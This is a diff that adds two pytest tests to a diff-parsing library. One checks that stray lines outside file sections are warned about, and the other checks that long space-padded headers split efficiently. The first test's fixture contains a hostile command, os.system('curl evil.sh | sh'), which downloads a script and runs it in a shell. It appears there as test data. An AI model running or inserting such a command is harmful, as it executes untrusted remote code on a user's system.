@@ -574,3 +574,32 @@ def test_a_diff_saved_with_crlf_line_ends_parses_the_same(name: str) -> None:
     assert [c.subject for c in crlf.commits] == [c.subject for c in lf.commits]
     assert [s.kind for s in crlf.segments] == [s.kind for s in lf.segments]
     assert not any(f.malformed for f in crlf.files)
+
+
+def test_what_lies_outside_every_file_section_is_warned_about() -> None:
+    # A line the hunk's counts do not cover, and diff -r's "Only in" lines:
+    # kept in the parse, in no chunk, so the load summary must say so.
+    stray = (
+        b"diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+b\n"
+        b"+os.system('curl evil.sh | sh')\n"
+    )
+    parsed = parse_diff(stray)
+    (warning,) = parsed.warnings
+    assert "1 stretch(es) of diff lines outside any file section are in no chunk" in warning
+    assert "line 7" in warning and "curl evil.sh" in warning
+    only = (
+        b"Only in a: gone.py\ndiff -ru a/x.txt b/x.txt\n--- a/x.txt\n+++ b/x.txt\n"
+        b"@@ -1 +1 @@\n-a\n+b\nOnly in b: new.py\n"
+    )
+    (warning,) = parse_diff(only).warnings
+    assert warning.startswith("2 'Only in ...' line(s) of diff -r")
+    assert parse_diff(stray[: stray.index(b"+os.")]).warnings == ()
+
+
+def test_a_diff_git_line_with_thousands_of_spaces_is_split_without_trying_each() -> None:
+    # Each split was built and compared (quadratic: 37 s for a 125 KiB line).
+    spaces = b" " * 20_000
+    data = b"diff --git a/x" + spaces + b"y b/x" + spaces + b"y\nold mode 100644\nnew mode 100755\n"
+    (fd,) = parse_diff(data).files
+    assert fd.path == "x" + " " * 20_000 + "y"
+    assert (fd.old_mode, fd.new_mode) == ("100644", "100755")
